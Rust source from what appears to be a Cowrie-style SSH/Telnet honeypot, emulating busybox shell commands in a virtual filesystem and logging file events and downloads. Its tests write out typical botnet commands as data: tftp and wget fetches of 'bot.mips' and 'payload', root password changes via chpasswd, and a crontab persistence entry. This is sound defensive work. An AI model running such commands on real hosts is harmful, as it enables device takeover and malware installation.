        let mut s = sh();
        assert_eq!(s.execute("echo hello").rendered, "hello\n");
        assert_eq!(s.execute("echo -n hi").rendered, "hi");
        assert_eq!(s.execute("echo -e 'a\\tb'").rendered, "a\tb\n");
    }

    #[test]
    fn cat_file_and_missing() {
        let mut s = sh();
        let out = s.execute("cat /etc/passwd").rendered;
        assert!(out.contains("root:x:0:0"));
        let miss = s.execute("cat /nope").rendered;
        assert!(miss.contains("No such file"));
    }

    #[test]
    fn uname_variants() {
        let mut s = sh();
        assert_eq!(s.execute("uname").rendered, "Linux\n");
        assert_eq!(s.execute("uname -m").rendered, "x86_64\n");
        assert_eq!(s.execute("uname -r").rendered, "4.14.67\n");
    }

    #[test]
    fn free_and_nproc() {
        let mut s = sh();
        assert!(s.execute("free -m").rendered.contains("Mem:"));
        assert_eq!(s.execute("nproc").rendered, "2\n");
    }

    #[test]
    fn cd_pwd_ls() {
        let mut s = sh();
        s.execute("cd /tmp");
        assert_eq!(s.execute("pwd").rendered, "/tmp\n");
        let err = s.execute("cd /no/dir").rendered;
        assert!(err.contains("No such file"));
        let ls = s.execute("ls /bin").rendered;
        assert!(ls.contains("busybox"));
        let lsl = s.execute("ls -la /bin").rendered;
        assert!(lsl.contains("rwxr-xr-x"));
    }

    #[test]
    fn mkdir_rm_touch() {
        let mut s = sh();
        s.execute("mkdir -p /a/b/c");
        assert!(s.vfs().is_dir("/a/b/c"));
        s.execute("touch /a/b/c/f");
        assert!(s.vfs().exists("/a/b/c/f"));
        s.execute("rm -rf /a");
        assert!(!s.vfs().exists("/a"));
        // touch records a file event
        let ev = s.take_events();
        assert!(ev.file_events.iter().any(|e| e.path == "/a/b/c/f"));
    }

    #[test]
    fn chmod_octal() {
        let mut s = sh();
        s.execute("touch /tmp/b; chmod 777 /tmp/b");
        assert_eq!(s.vfs().mode("/tmp/b"), Some(0o777));
    }

    #[test]
    fn cp_and_mv_record_events() {
        let mut s = sh();
        s.execute("echo payload > /tmp/a");
        s.execute("cp /tmp/a /tmp/b");
        s.execute("mv /tmp/b /var/c");
        assert!(!s.vfs().exists("/tmp/b"));
        assert!(s.vfs().exists("/var/c"));
        let ev = s.take_events();
        let paths: Vec<&str> = ev.file_events.iter().map(|e| e.path.as_str()).collect();
        assert!(paths.contains(&"/tmp/b"));
        assert!(paths.contains(&"/var/c"));
        // cp preserves content → same hash for all three events
        let h: std::collections::BTreeSet<_> = ev.file_events.iter().map(|e| e.sha256).collect();
        assert_eq!(h.len(), 1);
    }

    #[test]
    fn head_tail_grep_wc() {
        let mut s = sh();
        s.execute("echo -e 'l1\\nl2\\nl3\\nl4' > /tmp/t");
        assert_eq!(s.execute("head -2 /tmp/t").rendered, "l1\nl2\n");
        assert_eq!(s.execute("tail -n 1 /tmp/t").rendered, "l4\n");
        assert_eq!(s.execute("grep l3 /tmp/t").rendered, "l3\n");
        assert_eq!(
            s.execute("cat /tmp/t | grep -v l2 | head -1").rendered,
            "l1\n"
        );
        assert_eq!(
            s.execute("cat /tmp/t | wc").rendered,
            "       4       4      12\n"
        );
    }

    #[test]
    fn dd_copies_and_truncates() {
        let mut s = sh();
        s.execute("echo 0123456789 > /tmp/src");
        s.execute("dd if=/tmp/src of=/tmp/dst bs=4 count=1");
        assert_eq!(s.vfs().read_file("/tmp/dst").unwrap(), b"0123");
    }

    #[test]
    fn busybox_dispatch() {
        let mut s = sh();
        assert_eq!(s.execute("busybox echo hi").rendered, "hi\n");
        assert!(s.execute("busybox").rendered.contains("BusyBox"));
        // Unknown applet handled gracefully and still "known".
        assert!(s
            .execute("busybox zzz")
            .rendered
            .contains("applet not found"));
    }

    #[test]
    fn which_finds_binaries() {
        let mut s = sh();
        assert_eq!(s.execute("which wget").rendered, "/bin/wget\n");
        assert_eq!(s.execute("which doesnotexist").rendered, "");
    }

    #[test]
    fn chpasswd_changes_shadow_hash_per_password() {
        let mut s1 = sh();
        s1.execute("echo root:pass1 | chpasswd");
        let e1 = s1.take_events();
        let mut s2 = sh();
        s2.execute("echo root:pass2 | chpasswd");
        let e2 = s2.take_events();
        assert_eq!(e1.file_events.len(), 1);
        assert_eq!(e1.file_events[0].path, "/etc/shadow");
        assert_ne!(e1.file_events[0].sha256, e2.file_events[0].sha256);
    }

    #[test]
    fn crontab_install() {
        let mut s = sh();
        s.execute("echo '* * * * * /tmp/m' > /tmp/cr; crontab /tmp/cr");
        assert!(s.vfs().exists("/var/spool/cron/root"));
        assert_eq!(s.execute("crontab -l").rendered, "no crontab for root\n");
    }

    #[test]
    fn tftp_and_ftpget_download() {
        let mut s = sh();
        s.execute("cd /tmp; tftp -g -r bot.mips 198.51.100.7");
        assert!(s.vfs().exists("/tmp/bot.mips"));
        s.execute("cd /tmp; ftpget 203.0.113.5 local.bin remote.bin");
        assert!(s.vfs().exists("/tmp/local.bin"));
        let ev = s.take_events();
        assert_eq!(ev.downloads.len(), 2);
    }

    #[test]
    fn curl_stdout_vs_file() {
        let mut s = sh();
        let out = s.execute("curl http://h/body").rendered;
        assert!(out.contains("synthetic"));
        s.execute("cd /tmp && curl -O http://h/file.bin");
        assert!(s.vfs().exists("/tmp/file.bin"));
    }

    #[test]
    fn wget_custom_output() {
        let mut s = sh();
        s.execute("wget -O /var/run/.x http://h/payload");
        assert!(s.vfs().exists("/var/run/.x"));
    }

    #[test]
    fn passwd_changes_shadow() {
        let mut s = sh();
        let out = s.execute("passwd").rendered;
        assert!(out.contains("changed"));
        let ev = s.take_events();
        assert_eq!(ev.file_events[0].path, "/etc/shadow");
    }

    #[test]
    fn nohup_and_sudo_prefixes() {
        let mut s = sh();
        assert_eq!(s.execute("sudo echo ok").rendered, "ok\n");
        assert_eq!(s.execute("nohup uname").rendered, "Linux\n");
    }

    #[test]
    fn text_tools_pass_through() {
        let mut s = sh();
        let out = s.execute("echo keepme | awk '{print $1}'").rendered;
        assert_eq!(out, "keepme\n");
    }

    #[test]
    fn sysinfo_surface() {
        let mut s = sh();
        for (cmd, needle) in [
            ("w", "load average"),
            ("whoami", "root"),
            ("id", "uid=0"),
            ("uptime", "up"),
            ("ps x", "telnetd"),
            ("lscpu", "Architecture"),
            ("ifconfig", "eth0"),
            ("df", "Filesystem"),
            ("mount", "ext4"),
            ("top", "load average"),
            ("hostname", "svr04"),
            ("ping -c 2 1.2.3.4", "packets transmitted"),
        ] {
            let out = s.execute(cmd).rendered;
            assert!(out.contains(needle), "{cmd} output missing {needle}: {out}");
        }
    }
}
