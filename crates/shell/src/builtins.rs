//! Emulated commands ("known" commands in Cowrie's terminology).
//!
//! Each builtin receives a [`Ctx`] with mutable access to the session's VFS,
//! working directory, fetcher, and event log, plus its argv and stdin text,
//! and returns the stdout it would print. Commands not in the table return
//! `None`, which the interpreter records as an *unknown* command — that
//! known/unknown distinction is part of the honeypot's logged data model.

use hf_hash::Sha256;

use crate::interp::{FileEvent, FileOp, RemoteFetcher};
use crate::profile::SystemProfile;
use crate::uri;
use crate::vfs::{resolve_path, Vfs};

/// Execution context handed to builtins.
pub struct Ctx<'a> {
    /// The session filesystem.
    pub vfs: &'a mut Vfs,
    /// Current working directory (mutable: `cd` changes it).
    pub cwd: &'a mut String,
    /// Machine identity for sysinfo output.
    pub profile: &'a SystemProfile,
    /// Remote body supplier for transfer tools.
    pub fetcher: &'a mut dyn RemoteFetcher,
    /// File-event sink (create/modify with hash).
    pub file_events: &'a mut Vec<FileEvent>,
    /// Completed downloads sink: (uri, body hash).
    pub downloads: &'a mut Vec<(String, hf_hash::Digest)>,
    /// Set to true by `exit`/`logout`.
    pub exited: &'a mut bool,
}

impl Ctx<'_> {
    fn abs(&self, p: &str) -> String {
        resolve_path(self.cwd, p)
    }

    /// Write a file and record the event.
    fn write_recorded(&mut self, abs: &str, content: &[u8], mode: u32) {
        if abs == "/dev/null" {
            return;
        }
        if let Ok(existed) = self.vfs.write_file(abs, content, mode) {
            let hash = Sha256::digest(self.vfs.read_file(abs).unwrap());
            self.file_events.push(FileEvent {
                path: abs.to_string(),
                op: if existed {
                    FileOp::Modified
                } else {
                    FileOp::Created
                },
                size: content.len(),
                sha256: hash,
            });
        }
    }
}

/// Output of a builtin.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CmdOutput {
    /// Text printed to the terminal.
    pub stdout: String,
    /// Whether the command was emulated (true) or merely recorded (false).
    pub known: bool,
}

impl CmdOutput {
    /// An emulated command's output.
    pub fn known(stdout: String) -> Self {
        CmdOutput {
            stdout,
            known: true,
        }
    }

    /// An unknown command's output.
    pub fn unknown(stdout: String) -> Self {
        CmdOutput {
            stdout,
            known: false,
        }
    }
}

/// Run a builtin; `None` means the command is not emulated.
pub fn run(ctx: &mut Ctx, argv: &[String], stdin: &str) -> Option<CmdOutput> {
    let name = argv[0].as_str();
    let args: Vec<&str> = argv[1..].iter().map(|s| s.as_str()).collect();
    let out = match name {
        "busybox" if !args.is_empty() => {
            // `busybox CMD args...` dispatches to CMD.
            let inner: Vec<String> = argv[1..].to_vec();
            return run(ctx, &inner, stdin).or(Some(CmdOutput::known(format!(
                "{}: applet not found\n",
                args[0]
            ))));
        }
        "busybox" => busybox_banner(),
        "echo" => echo(&args),
        "cat" => cat(ctx, &args, stdin),
        "uname" => uname(ctx.profile, &args),
        "free" => free(ctx.profile, &args),
        "w" | "who" => w_output(ctx.profile),
        "whoami" => "root\n".to_string(),
        "id" => "uid=0(root) gid=0(root) groups=0(root)\n".to_string(),
        "uptime" => {
            " 11:02:35 up 42 days,  3:14,  1 user,  load average: 0.08, 0.03, 0.01\n".to_string()
        }
        "ps" => ps_output(&args),
        "nproc" => format!("{}\n", ctx.profile.cpu_cores),
        "lscpu" => lscpu(ctx.profile),
        "hostname" => format!("{}\n", ctx.profile.hostname),
        "ifconfig" => ifconfig(),
        "pwd" => format!("{}\n", ctx.cwd),
        "cd" => cd(ctx, &args),
        "ls" => ls(ctx, &args),
        "mkdir" => mkdir(ctx, &args),
        "rm" => rm(ctx, &args),
        "rmdir" => rm(ctx, &args),
        "cp" => cp(ctx, &args),
        "mv" => mv(ctx, &args),
        "touch" => touch(ctx, &args),
        "chmod" => chmod(ctx, &args),
        "head" => head_tail(ctx, &args, stdin, true),
        "tail" => head_tail(ctx, &args, stdin, false),
        "grep" => grep(ctx, &args, stdin),
        "wc" => wc(stdin),
        "dd" => dd(ctx, &args, stdin),
        "df" => df(),
        "mount" => mount(),
        "top" => top(ctx.profile),
        "history" => String::new(),
        "which" => which(ctx, &args),
        "export" | "set" | "unset" | "alias" => String::new(),
        "sleep" | "sync" => String::new(),
        "kill" | "killall" | "pkill" => String::new(),
        "su" => String::new(),
        "passwd" => passwd(ctx, &args),
        "chpasswd" => chpasswd(ctx, stdin),
        "crontab" => crontab(ctx, &args, stdin),
        "wget" => wget(ctx, &args),
        "curl" => curl(ctx, &args),
        "tftp" => tftp(ctx, argv),
        "ftpget" => ftpget(ctx, argv),
        "scp" => String::new(),
        "ping" => ping(&args),
        "iptables" | "service" | "systemctl" | "ulimit" => String::new(),
        "exit" | "logout" => {
            *ctx.exited = true;
            String::new()
        }
        "yes" => "y\ny\ny\n".to_string(),
        "awk" | "sed" | "tr" | "cut" | "sort" | "uniq" | "xargs" => {
            // Text tools: pass stdin through — good enough for the scripts
            // intruders chain them into.
            stdin.to_string()
        }
        _ => return None,
    };
    Some(CmdOutput::known(out))
}

// ---- sysinfo ---------------------------------------------------------------

fn busybox_banner() -> String {
    "BusyBox v1.31.1 (2020-02-25 13:33:41 UTC) multi-call binary.\nUsage: busybox [function [arguments]...]\n".to_string()
}

fn uname(p: &SystemProfile, args: &[&str]) -> String {
    if args.is_empty() {
        return "Linux\n".to_string();
    }
    match args[0] {
        "-a" | "--all" => format!("{}\n", p.uname_all()),
        "-r" => format!("{}\n", p.kernel_version),
        "-m" | "-p" => format!("{}\n", p.arch),
        "-n" => format!("{}\n", p.hostname),
        "-s" => "Linux\n".to_string(),
        _ => "Linux\n".to_string(),
    }
}

fn free(p: &SystemProfile, args: &[&str]) -> String {
    let (total, unit) = if args.contains(&"-m") {
        (p.mem_total_mb, "M")
    } else {
        (p.mem_total_mb * 1024, "k")
    };
    let used = total * 2 / 5;
    let free = total - used;
    format!(
        "              total        used        free      shared  buff/cache   available ({unit})\nMem:     {total:>10}  {used:>10}  {free:>10}           0           0  {free:>10}\nSwap:             0           0           0\n"
    )
}

fn w_output(p: &SystemProfile) -> String {
    format!(
        " 11:02:35 up 42 days,  3:14,  1 user,  load average: 0.08, 0.03, 0.01\nUSER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\nroot     pts/0    {}       11:02    0.00s  0.00s  0.00s w\n",
        p.hostname
    )
}

fn ps_output(args: &[&str]) -> String {
    let wide = args.iter().any(|a| a.contains('a') || a.contains('x'));
    let mut out = String::from("  PID TTY          TIME CMD\n");
    out.push_str("    1 ?        00:00:01 init\n");
    if wide {
        out.push_str("  402 ?        00:00:00 telnetd\n  403 ?        00:00:00 dropbear\n");
    }
    out.push_str(" 1432 pts/0    00:00:00 sh\n 1448 pts/0    00:00:00 ps\n");
    out
}

fn lscpu(p: &SystemProfile) -> String {
    format!(
        "Architecture:        {}\nCPU(s):              {}\nModel name:          {}\n",
        p.arch, p.cpu_cores, p.cpu_model
    )
}

fn ifconfig() -> String {
    "eth0      Link encap:Ethernet  HWaddr 52:54:00:12:34:56\n          inet addr:192.168.1.104  Bcast:192.168.1.255  Mask:255.255.255.0\n          UP BROADCAST RUNNING MULTICAST  MTU:1500  Metric:1\n".to_string()
}

fn df() -> String {
    "Filesystem     1K-blocks    Used Available Use% Mounted on\n/dev/root        7158264 1683176   5103652  25% /\ntmpfs             512000       0    512000   0% /tmp\n".to_string()
}

fn mount() -> String {
    "/dev/root on / type ext4 (rw,relatime)\nproc on /proc type proc (rw)\ntmpfs on /tmp type tmpfs (rw)\n".to_string()
}

fn top(p: &SystemProfile) -> String {
    format!(
        "top - 11:02:35 up 42 days,  3:14,  1 user,  load average: 0.08, 0.03, 0.01\nTasks:  34 total,   1 running,  33 sleeping\nMem: {}k total\n  PID USER      PR  NI    VIRT    RES  %CPU %MEM     TIME+ COMMAND\n    1 root      20   0    2344   1552   0.0  0.2   0:01.02 init\n",
        p.mem_total_mb * 1024
    )
}

fn ping(args: &[&str]) -> String {
    let host = args
        .iter()
        .find(|a| !a.starts_with('-'))
        .copied()
        .unwrap_or("127.0.0.1");
    format!(
        "PING {host} ({host}): 56 data bytes\n64 bytes from {host}: seq=0 ttl=64 time=0.4 ms\n64 bytes from {host}: seq=1 ttl=64 time=0.4 ms\n--- {host} ping statistics ---\n2 packets transmitted, 2 packets received, 0% packet loss\n"
    )
}

// ---- text/file ops ----------------------------------------------------------

fn echo(args: &[&str]) -> String {
    let mut args = args.to_vec();
    let mut newline = true;
    let mut interpret = false;
    while let Some(first) = args.first() {
        match *first {
            "-n" => {
                newline = false;
                args.remove(0);
            }
            "-e" => {
                interpret = true;
                args.remove(0);
            }
            _ => break,
        }
    }
    let mut s = args.join(" ");
    if interpret {
        s = s
            .replace("\\n", "\n")
            .replace("\\t", "\t")
            .replace("\\r", "\r");
    }
    if newline {
        s.push('\n');
    }
    s
}

fn cat(ctx: &mut Ctx, args: &[&str], stdin: &str) -> String {
    let files: Vec<&&str> = args.iter().filter(|a| !a.starts_with('-')).collect();
    if files.is_empty() {
        return stdin.to_string();
    }
    let mut out = String::new();
    for f in files {
        let abs = ctx.abs(f);
        match ctx.vfs.read_file(&abs) {
            Ok(c) => out.push_str(&String::from_utf8_lossy(c)),
            Err(e) => out.push_str(&format!("cat: {e}\n")),
        }
    }
    out
}

fn cd(ctx: &mut Ctx, args: &[&str]) -> String {
    let target = args.first().copied().unwrap_or("/root");
    let abs = ctx.abs(target);
    if ctx.vfs.is_dir(&abs) {
        *ctx.cwd = abs;
        String::new()
    } else {
        format!("-bash: cd: {target}: No such file or directory\n")
    }
}

fn ls(ctx: &mut Ctx, args: &[&str]) -> String {
    let long = args.iter().any(|a| a.starts_with('-') && a.contains('l'));
    let all = args.iter().any(|a| a.starts_with('-') && a.contains('a'));
    let target = args
        .iter()
        .find(|a| !a.starts_with('-'))
        .copied()
        .unwrap_or(".");
    let abs = ctx.abs(target);
    if !ctx.vfs.exists(&abs) {
        return format!("ls: {target}: No such file or directory\n");
    }
    if !ctx.vfs.is_dir(&abs) {
        return format!("{target}\n");
    }
    let mut names = ctx.vfs.list(&abs).unwrap_or_default();
    if all {
        names.insert(0, "..".to_string());
        names.insert(0, ".".to_string());
    }
    if long {
        let mut out = String::new();
        for n in names {
            let p = format!("{}/{}", abs.trim_end_matches('/'), n);
            let is_dir = n == "." || n == ".." || ctx.vfs.is_dir(&p);
            let mode = ctx.vfs.mode(&p).unwrap_or(0o755);
            let size = ctx.vfs.size(&p).unwrap_or(0);
            out.push_str(&format!(
                "{}{} 1 root root {:>8} Jan  1 00:00 {}\n",
                if is_dir { 'd' } else { '-' },
                render_mode(mode),
                size,
                n
            ));
        }
        out
    } else if names.is_empty() {
        String::new()
    } else {
        format!("{}\n", names.join("  "))
    }
}

fn render_mode(mode: u32) -> String {
    let mut s = String::with_capacity(9);
    for shift in [6u32, 3, 0] {
        let bits = (mode >> shift) & 7;
        s.push(if bits & 4 != 0 { 'r' } else { '-' });
        s.push(if bits & 2 != 0 { 'w' } else { '-' });
        s.push(if bits & 1 != 0 { 'x' } else { '-' });
    }
    s
}

fn mkdir(ctx: &mut Ctx, args: &[&str]) -> String {
    let mut out = String::new();
    for a in args.iter().filter(|a| !a.starts_with('-')) {
        let abs = ctx.abs(a);
        let parents = args.contains(&"-p");
        if !parents && ctx.vfs.exists(&abs) {
            out.push_str(&format!(
                "mkdir: can't create directory '{a}': File exists\n"
            ));
            continue;
        }
        let _ = ctx.vfs.mkdir_p(&abs);
    }
    out
}

fn rm(ctx: &mut Ctx, args: &[&str]) -> String {
    let force = args.iter().any(|a| a.starts_with('-') && a.contains('f'));
    let mut out = String::new();
    for a in args.iter().filter(|a| !a.starts_with('-')) {
        let abs = ctx.abs(a);
        if ctx.vfs.remove(&abs).is_err() && !force {
            out.push_str(&format!(
                "rm: can't remove '{a}': No such file or directory\n"
            ));
        }
    }
    out
}

fn cp(ctx: &mut Ctx, args: &[&str]) -> String {
    let pos: Vec<&&str> = args.iter().filter(|a| !a.starts_with('-')).collect();
    if pos.len() < 2 {
        return "cp: missing file operand\n".to_string();
    }
    let from = ctx.abs(pos[0]);
    let to = ctx.abs(pos[1]);
    match ctx.vfs.copy_file(&from, &to) {
        Ok(existed) => {
            let dest = if ctx.vfs.is_dir(&to) {
                format!(
                    "{}/{}",
                    to.trim_end_matches('/'),
                    from.rsplit('/').next().unwrap()
                )
            } else {
                to
            };
            let hash = Sha256::digest(ctx.vfs.read_file(&dest).unwrap());
            let size = ctx.vfs.size(&dest).unwrap_or(0);
            ctx.file_events.push(FileEvent {
                path: dest,
                op: if existed {
                    FileOp::Modified
                } else {
                    FileOp::Created
                },
                size,
                sha256: hash,
            });
            String::new()
        }
        Err(e) => format!("cp: {e}\n"),
    }
}

fn mv(ctx: &mut Ctx, args: &[&str]) -> String {
    let out = cp(ctx, args);
    if out.is_empty() {
        let pos: Vec<&&str> = args.iter().filter(|a| !a.starts_with('-')).collect();
        let from = ctx.abs(pos[0]);
        let _ = ctx.vfs.remove(&from);
        String::new()
    } else {
        out.replace("cp:", "mv:")
    }
}

fn touch(ctx: &mut Ctx, args: &[&str]) -> String {
    for a in args.iter().filter(|a| !a.starts_with('-')) {
        let abs = ctx.abs(a);
        if !ctx.vfs.exists(&abs) {
            ctx.write_recorded(&abs, b"", 0o644);
        }
    }
    String::new()
}

fn chmod(ctx: &mut Ctx, args: &[&str]) -> String {
    let pos: Vec<&&str> = args
        .iter()
        .filter(|a| !a.starts_with('-') || a.len() <= 1)
        .collect();
    if pos.len() < 2 {
        return "chmod: missing operand\n".to_string();
    }
    let mode = u32::from_str_radix(pos[0], 8).unwrap_or(0o755);
    let mut out = String::new();
    for target in &pos[1..] {
        let abs = ctx.abs(target);
        if ctx.vfs.chmod(&abs, mode).is_err() {
            out.push_str(&format!("chmod: {target}: No such file or directory\n"));
        }
    }
    out
}

fn head_tail(ctx: &mut Ctx, args: &[&str], stdin: &str, head: bool) -> String {
    let mut n = 10usize;
    let mut file = None;
    let mut it = args.iter().peekable();
    while let Some(a) = it.next() {
        if *a == "-n" {
            if let Some(v) = it.next() {
                n = v.parse().unwrap_or(10);
            }
        } else if let Some(num) = a.strip_prefix('-') {
            if let Ok(v) = num.parse() {
                n = v;
            }
        } else {
            file = Some(*a);
        }
    }
    let text = match file {
        Some(f) => {
            let abs = ctx.abs(f);
            match ctx.vfs.read_file(&abs) {
                Ok(c) => String::from_utf8_lossy(c).into_owned(),
                Err(e) => return format!("head: {e}\n"),
            }
        }
        None => stdin.to_string(),
    };
    let lines: Vec<&str> = text.lines().collect();
    let slice: Vec<&str> = if head {
        lines.iter().take(n).copied().collect()
    } else {
        lines.iter().rev().take(n).rev().copied().collect()
    };
    if slice.is_empty() {
        String::new()
    } else {
        format!("{}\n", slice.join("\n"))
    }
}

fn grep(ctx: &mut Ctx, args: &[&str], stdin: &str) -> String {
    let pos: Vec<&&str> = args.iter().filter(|a| !a.starts_with('-')).collect();
    let Some(pattern) = pos.first() else {
        return String::new();
    };
    let invert = args.contains(&"-v");
    let text = match pos.get(1) {
        Some(f) => {
            let abs = ctx.abs(f);
            match ctx.vfs.read_file(&abs) {
                Ok(c) => String::from_utf8_lossy(c).into_owned(),
                Err(e) => return format!("grep: {e}\n"),
            }
        }
        None => stdin.to_string(),
    };
    let mut out = String::new();
    for line in text.lines() {
        if line.contains(**pattern) != invert {
            out.push_str(line);
            out.push('\n');
        }
    }
    out
}

fn wc(stdin: &str) -> String {
    let lines = stdin.lines().count();
    let words = stdin.split_whitespace().count();
    let bytes = stdin.len();
    format!("{lines:>8}{words:>8}{bytes:>8}\n")
}

fn dd(ctx: &mut Ctx, args: &[&str], stdin: &str) -> String {
    let kv = |key: &str| {
        args.iter()
            .find_map(|a| a.strip_prefix(&format!("{key}=")).map(|v| v.to_string()))
    };
    let input = match kv("if") {
        Some(f) => {
            let abs = ctx.abs(&f);
            match ctx.vfs.read_file(&abs) {
                Ok(c) => c.to_vec(),
                Err(e) => return format!("dd: {e}\n"),
            }
        }
        None => stdin.as_bytes().to_vec(),
    };
    // bs/count truncation, enough for the `dd bs=52 count=1` probes botnets use.
    let bs: usize = kv("bs").and_then(|v| v.parse().ok()).unwrap_or(512);
    let count: Option<usize> = kv("count").and_then(|v| v.parse().ok());
    let taken: Vec<u8> = match count {
        Some(c) => input.into_iter().take(bs * c).collect(),
        None => input,
    };
    if let Some(of) = kv("of") {
        let abs = ctx.abs(&of);
        ctx.write_recorded(&abs, &taken, 0o644);
        let blocks = taken.len().div_ceil(bs.max(1));
        format!("{blocks}+0 records in\n{blocks}+0 records out\n")
    } else {
        String::from_utf8_lossy(&taken).into_owned()
    }
}

fn which(ctx: &mut Ctx, args: &[&str]) -> String {
    let mut out = String::new();
    for a in args.iter().filter(|a| !a.starts_with('-')) {
        for dir in ["/bin", "/sbin", "/usr/bin", "/usr/sbin"] {
            let p = format!("{dir}/{a}");
            if ctx.vfs.exists(&p) {
                out.push_str(&p);
                out.push('\n');
                break;
            }
        }
    }
    out
}

// ---- accounts ---------------------------------------------------------------

fn passwd(ctx: &mut Ctx, args: &[&str]) -> String {
    let user = args
        .iter()
        .find(|a| !a.starts_with('-'))
        .copied()
        .unwrap_or("root");
    // Changing a password rewrites /etc/shadow → recorded file event.
    let content = format!("{user}:$6$rounds=5000$changed$:18113:0:99999:7:::\n");
    ctx.write_recorded("/etc/shadow", content.as_bytes(), 0o600);
    format!("passwd: password for {user} changed by root\n")
}

fn chpasswd(ctx: &mut Ctx, stdin: &str) -> String {
    // Each `user:pass` line rewrites shadow; content depends on input so
    // campaigns using distinct passwords produce distinct hashes.
    let mut shadow = String::new();
    for line in stdin.lines() {
        if let Some((user, pass)) = line.split_once(':') {
            shadow.push_str(&format!(
                "{user}:$6${}$:18113:0:99999:7:::\n",
                obfuscate(pass)
            ));
        }
    }
    if !shadow.is_empty() {
        ctx.write_recorded("/etc/shadow", shadow.as_bytes(), 0o600);
    }
    String::new()
}

fn obfuscate(pass: &str) -> String {
    Sha256::digest(pass.as_bytes()).short()
}

fn crontab(ctx: &mut Ctx, args: &[&str], stdin: &str) -> String {
    if args.contains(&"-l") {
        return "no crontab for root\n".to_string();
    }
    if args.contains(&"-r") {
        let _ = ctx.vfs.remove("/var/spool/cron/root");
        return String::new();
    }
    // `crontab FILE` or `crontab -` installs a crontab.
    let content: Vec<u8> = match args.iter().find(|a| !a.starts_with('-')) {
        Some(f) => {
            let abs = ctx.abs(f);
            match ctx.vfs.read_file(&abs) {
                Ok(c) => c.to_vec(),
                Err(e) => return format!("crontab: {e}\n"),
            }
        }
        None => stdin.as_bytes().to_vec(),
    };
    if !content.is_empty() {
        ctx.write_recorded("/var/spool/cron/root", &content, 0o600);
    }
    String::new()
}

// ---- transfer tools ----------------------------------------------------------

fn download_to(ctx: &mut Ctx, uri: &str, dest_rel: &str) -> Result<usize, ()> {
    let body = ctx.fetcher.fetch(uri).ok_or(())?;
    let hash = Sha256::digest(&body);
    ctx.downloads.push((uri.to_string(), hash));
    let abs = ctx.abs(dest_rel);
    let size = body.len();
    ctx.write_recorded(&abs, &body, 0o644);
    Ok(size)
}

fn basename_of_uri(uri: &str) -> String {
    let tail = uri.rsplit('/').next().unwrap_or("index.html");
    if tail.is_empty() || tail.contains("://") {
        "index.html".to_string()
    } else {
        tail.to_string()
    }
}

fn wget(ctx: &mut Ctx, args: &[&str]) -> String {
    let Some(url) = args.iter().find(|a| a.contains("://")).copied() else {
        return "wget: missing URL\n".to_string();
    };
    let dest = args
        .windows(2)
        .find(|w| w[0] == "-O" || w[0] == "-o")
        .map(|w| w[1].to_string())
        .unwrap_or_else(|| basename_of_uri(url));
    match download_to(ctx, url, &dest) {
        Ok(size) => format!(
            "Connecting to {url}\n{dest}           100% |*******************************| {size}  0:00:00 ETA\n'{dest}' saved\n"
        ),
        Err(()) => format!("wget: can't connect to remote host: Connection refused\nwget: download failed: {url}\n"),
    }
}

fn curl(ctx: &mut Ctx, args: &[&str]) -> String {
    let Some(url) = args.iter().find(|a| a.contains("://")).copied() else {
        return "curl: no URL specified!\n".to_string();
    };
    let to_file = args.contains(&"-O") || args.windows(2).any(|w| w[0] == "-o");
    if to_file {
        let dest = args
            .windows(2)
            .find(|w| w[0] == "-o")
            .map(|w| w[1].to_string())
            .unwrap_or_else(|| basename_of_uri(url));
        match download_to(ctx, url, &dest) {
            Ok(_) => String::new(),
            Err(()) => format!("curl: (7) Failed to connect to host: Connection refused\ncurl: download failed: {url}\n"),
        }
    } else {
        // Body to stdout; still a download event (hash of the body).
        match ctx.fetcher.fetch(url) {
            Some(body) => {
                ctx.downloads.push((url.to_string(), Sha256::digest(&body)));
                String::from_utf8_lossy(&body).into_owned()
            }
            None => "curl: (7) Failed to connect to host: Connection refused\n".to_string(),
        }
    }
}

fn tftp(ctx: &mut Ctx, argv: &[String]) -> String {
    let uris = uri::extract_from_argv(argv);
    let Some(u) = uris.first() else {
        return "tftp: usage: tftp -g -r FILE HOST\n".to_string();
    };
    let dest = basename_of_uri(&u.0);
    match download_to(ctx, &u.0, &dest) {
        Ok(_) => String::new(),
        Err(()) => "tftp: timeout\n".to_string(),
    }
}

fn ftpget(ctx: &mut Ctx, argv: &[String]) -> String {
    let uris = uri::extract_from_argv(argv);
    let Some(u) = uris.first() else {
        return "ftpget: usage: ftpget HOST LOCAL REMOTE\n".to_string();
    };
    // busybox ftpget: LOCAL is the 2nd positional arg.
    let pos: Vec<&String> = argv[1..].iter().filter(|a| !a.starts_with('-')).collect();
    let dest = pos
        .get(1)
        .map(|s| s.to_string())
        .unwrap_or_else(|| basename_of_uri(&u.0));
    match download_to(ctx, &u.0, &dest) {
        Ok(_) => String::new(),
        Err(()) => "ftpget: can't connect to remote host: Connection refused\n".to_string(),
    }
}

#[cfg(test)]
mod tests {

    use crate::interp::{ShellSession, SyntheticFetcher};
    use crate::profile::SystemProfile;

    fn sh() -> ShellSession {
        ShellSession::new(SystemProfile::default(), Box::new(SyntheticFetcher))
    }

    #[test]
    fn echo_flags() {
        let mut s = sh();
        assert_eq!(s.execute("echo hello").rendered, "hello\n");
        assert_eq!(s.execute("echo -n hi").rendered, "hi");
        assert_eq!(s.execute("echo -e 'a\\tb'").rendered, "a\tb\n");
    }

    #[test]
    fn cat_file_and_missing() {
        let mut s = sh();
        let out = s.execute("cat /etc/passwd").rendered;
        assert!(out.contains("root:x:0:0"));
        let miss = s.execute("cat /nope").rendered;
        assert!(miss.contains("No such file"));
    }

    #[test]
    fn uname_variants() {
        let mut s = sh();
        assert_eq!(s.execute("uname").rendered, "Linux\n");
        assert_eq!(s.execute("uname -m").rendered, "x86_64\n");
        assert_eq!(s.execute("uname -r").rendered, "4.14.67\n");
    }

    #[test]
    fn free_and_nproc() {
        let mut s = sh();
        assert!(s.execute("free -m").rendered.contains("Mem:"));
        assert_eq!(s.execute("nproc").rendered, "2\n");
    }

    #[test]
    fn cd_pwd_ls() {
        let mut s = sh();
        s.execute("cd /tmp");
        assert_eq!(s.execute("pwd").rendered, "/tmp\n");
        let err = s.execute("cd /no/dir").rendered;
        assert!(err.contains("No such file"));
        let ls = s.execute("ls /bin").rendered;
        assert!(ls.contains("busybox"));
        let lsl = s.execute("ls -la /bin").rendered;
        assert!(lsl.contains("rwxr-xr-x"));
    }

    #[test]
    fn mkdir_rm_touch() {
        let mut s = sh();
        s.execute("mkdir -p /a/b/c");
